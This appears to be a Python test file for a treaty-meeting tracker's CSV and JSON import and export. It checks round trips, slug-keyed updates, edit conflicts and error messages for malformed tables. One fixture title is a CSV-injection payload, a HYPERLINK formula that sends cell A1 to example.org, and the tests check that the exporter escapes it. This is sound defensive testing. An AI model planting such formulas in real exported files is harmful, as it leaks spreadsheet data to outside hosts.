"""CSV and JSON in and out (#16 part 3): `tracker export --csv` (or `--json`) read back by
`tracker import` changes nothing; a table's records are known by slug, so importing again
updates them; a cell edited in the file is applied unless the field was edited here since
(the seeds' rule); a bad file is refused in one line naming the line, nothing written.
All with the real `tracker` command on the shipped seeds."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from ..process import tracker

ODD_ITEMS = [
    # A series that skips days, a time in a zone, a span of days, a date to be announced,
    # free text over lines, alert leads and a confirmation lead, a body and a source.
    ("meeting", "add", "Weekly consultations", "--slug", "weekly-consultations",
     "--starts", "2027-01-05T10:00 Europe/Geneva", "--ends", "2027-01-05T12:00 Europe/Geneva",
     "--repeat", "FREQ=WEEKLY;BYDAY=TU;COUNT=10;EXDATE=20270119", "--treaty", "npt",
     "--body", "NPT informal meetings", "--location", "Room XVII, Palais des Nations"),
    ("meeting", "add", "Expert group", "--slug", "expert-group", "--starts", "8–12 March 2027",
     "--outcome", "First line.\nSecond line, with a comma."),
    ("meeting", "add", "Talks to be dated", "--slug", "talks-tba", "--starts", "TBA",
     "--confirm-ahead", "14d"),
    # A title a spreadsheet would run as a formula (CSV injection).
    ("meeting", "add", '=HYPERLINK("http://example.org/?"&A1,"x")', "--slug", "formula",
     "--starts", "2027-02-01", "--location", "@location"),
    ("deadline", "add", "Report due", "--slug", "report-due", "--due", "by end of 2027",
     "--note", 'Quoted "text", and a line\nbreak.', "--alert", "30d,1d",
     "--source", "https://example.org/report", "--confidence", "expected"),
]  # fmt: skip


def run(home: Path, *args: str) -> str:
    done = tracker(home, "--as-of", "2026-12-03", *args)
    assert done.returncode == 0, done.stderr
    return done.stdout


def summary(output: str) -> str:
    return output.splitlines()[0]


def add_odd_items(home: Path) -> None:
    for args in ODD_ITEMS:
        run(home, *args)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("form", ["csv", "json"])
def test_an_export_read_back_changes_nothing(home: Path, form: str) -> None:
    add_odd_items(home)
    exported = home / f"a.{form}"
    exported.write_text(run(home, "export", f"--{form}"))
    count = len(rows(run(home, "export", "--csv")))
    assert count > 100  # the shipped seeds and the odd items
    said = summary(run(home, "import", str(exported), "--dry-run"))
    assert (
        said == f"dry run (nothing written): 0 added, 0 changed, {count} unchanged, 0 in conflict"
    )
    before = run(home, "meeting", "show", "weekly-consultations", "--json")
    assert summary(run(home, "import", str(exported))).startswith("import: 0 added, 0 changed")
    assert run(home, "meeting", "show", "weekly-consultations", "--json") == before
    assert run(home, "export", f"--{form}") == exported.read_text()


def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was(
    home: Path,
) -> None:
    add_odd_items(home)
    [row] = [r for r in rows(run(home, "export", "--csv")) if r["slug"] == "formula"]
    assert row["title"] == '\'=HYPERLINK("http://example.org/?"&A1,"x")'
    assert row["location"] == "'@location"
    exported = home / "a.csv"
    exported.write_text(run(home, "export", "--csv"))
    assert "0 changed" in summary(run(home, "import", str(exported), "--dry-run"))
    shown = json.loads(run(home, "meeting", "show", "formula", "--json"))
    assert (shown["title"], shown["location"]) == (
        '=HYPERLINK("http://example.org/?"&A1,"x")',
        "@location",
    )


def test_the_export_writes_the_documented_columns_as_the_cli_reads_them(home: Path) -> None:
    add_odd_items(home)
    text = run(home, "export", "--csv")
    header = text.splitlines()[0]
    assert header == (
        "type,slug,uid,title,treaty,body,kind,status,status_on,confidence,due,starts,ends,tz,"
        "location,series,recurrence,alert,confirm_ahead,outcome,notes,sources"
    )
    by_slug = {row["slug"]: row for row in rows(text)}
    weekly = by_slug["weekly-consultations"]
    assert weekly["starts"] == "2027-01-05T10:00 Europe/Geneva"
    assert weekly["recurrence"] == "FREQ=WEEKLY;BYDAY=TU;COUNT=10;EXDATE=20270119"
    assert by_slug["talks-tba"]["starts"] == "TBA"
    assert by_slug["talks-tba"]["confirm_ahead"] == "14d"
    assert by_slug["report-due"]["notes"] == 'Quoted "text", and a line\nbreak.'
    assert by_slug["report-due"]["sources"] == "https://example.org/report"
    assert (by_slug["expert-group"]["starts"], by_slug["expert-group"]["ends"]) == (
        "2027-03-08",
        "2027-03-12",
    )


TABLE = """type,slug,title,starts,ends,due,body
meeting,,Working group on verification,2027-04-12,2027-04-16,,CD working group
deadline,wg-report,Working group report,,,2027-06-30,CD working group
"""


def test_a_table_adds_records_and_importing_it_again_updates_them(home: Path) -> None:
    table = home / "table.csv"
    table.write_text(TABLE)
    added = run(home, "import", str(table), "--treaty", "npt")
    assert summary(added) == "import: 2 added, 0 changed, 0 unchanged, 0 in conflict"
    meeting = json.loads(run(home, "meeting", "show", "working-group-on-verification", "--json"))
    assert (meeting["treaty"], meeting["body"], meeting["ends"]["when"]) == (
        "npt",
        "CD working group",
        "2027-04-16",
    )
    table.write_text(TABLE.replace("2027-06-30", "2027-07-15"))
    again = run(home, "import", str(table), "--treaty", "npt")
    assert summary(again) == "import: 0 added, 1 changed, 1 unchanged, 0 in conflict"
    assert "changed deadline wg-report: due" in again
    listed = json.loads(run(home, "deadline", "list", "--all", "--json"))
    assert [d["slug"] for d in listed].count("wg-report") == 1
    shown = json.loads(run(home, "deadline", "show", "wg-report", "--json"))
    assert shown["when"] == "2027-07-15"
    assert [s["title"] for s in shown["sources"]] == ["Imported file table.csv"]


def test_an_edited_export_applies_its_edits_and_keeps_local_ones(home: Path) -> None:
    exported = home / "a.csv"
    exported.write_text(run(home, "export", "--csv"))
    run(home, "import", str(exported))  # the file's values become the bases
    table = rows(exported.read_text())
    first, second = table[0], table[1]
    first["title"] += " (renamed in the spreadsheet)"
    second["title"] += " (renamed in the spreadsheet)"
    run(home, second["type"], "edit", second["slug"], "--kind", "other")  # kind: no conflict
    run(home, second["type"], "edit", second["slug"], "--title", "Renamed here")
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(table[0]))
    writer.writeheader()
    writer.writerows(table)
    exported.write_text(out.getvalue())
    said = run(home, "import", str(exported))
    assert summary(said).startswith("import: 0 added, 1 changed,")
    assert summary(said).endswith(", 1 in conflict")
    assert f"changed {first['type']} {first['slug']}: title" in said
    assert f"conflict: {second['type']} {second['slug']}, title: local 'Renamed here'" in said
    shown = json.loads(run(home, second["type"], "show", second["slug"], "--json"))
    assert (shown["title"], shown["kind"]) == ("Renamed here", "other")


def test_a_cell_changed_for_a_record_never_imported_is_a_conflict_until_taken(
    home: Path,
) -> None:
    exported = home / "a.csv"
    table = rows(run(home, "export", "--csv", "--kind", "review-conference"))
    table[0]["title"] = "A new title"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(table[0]))
    writer.writeheader()
    writer.writerows(table)
    exported.write_text(out.getvalue())
    said = run(home, "import", str(exported))
    assert summary(said).endswith(", 1 in conflict")
    slug = table[0]["slug"]
    taken = run(home, "import", str(exported), "--take", f"{slug}:title")
    assert f"changed {table[0]['type']} {slug}: title" in taken
    assert json.loads(run(home, table[0]["type"], "show", slug, "--json"))["title"] == "A new title"


BAD_TABLES = {
    "a bad date": ("type,title,starts\nmeeting,Fine,2027-01-05\nmeeting,B,Smarch 45\n", "line 3:"),
    "an unknown column": ("type,title,colour\nmeeting,A,red\n", "line 1: unknown column 'colour'"),
    "an unknown type": ("type,title\nmeeting,A\ntreaty,B\n", "line 3: type 'treaty'"),
    "a short row": ("type,title,starts\nmeeting,A,2027-01-05\nmeeting,B\n", "line 3: 2 cells"),
    "a field of the other type": (
        'type,title,due\ndeadline,"Two\nlines",2027-01-05\nmeeting,X,2027-01-05\n',
        "line 4: a meeting has no due",
    ),
    "a slug twice": (
        "type,slug,title\nmeeting,a,A\nmeeting,b,B\nmeeting,a,C\n",
        "line 4: a is given twice (first: line 2)",
    ),
    "no title column": ("type,starts\nmeeting,2027-01-05\n", "line 1: no 'title' column"),
    "bad JSON": ('{"records": [', "line 1: not JSON"),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(BAD_TABLES))
def test_a_malformed_table_is_refused_in_one_line_naming_the_line(home: Path, case: str) -> None:
    text, named = BAD_TABLES[case]
    path = home / ("bad.json" if text.startswith("{") else "bad.csv")
    path.write_text(text)
    before = run(home, "export", "--csv")
    done = tracker(home, "--as-of", "2026-12-03", "import", str(path))
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert done.stderr.startswith(f"error: {path}: {named}")
    assert run(home, "export", "--csv") == before  # nothing written, not even line 2
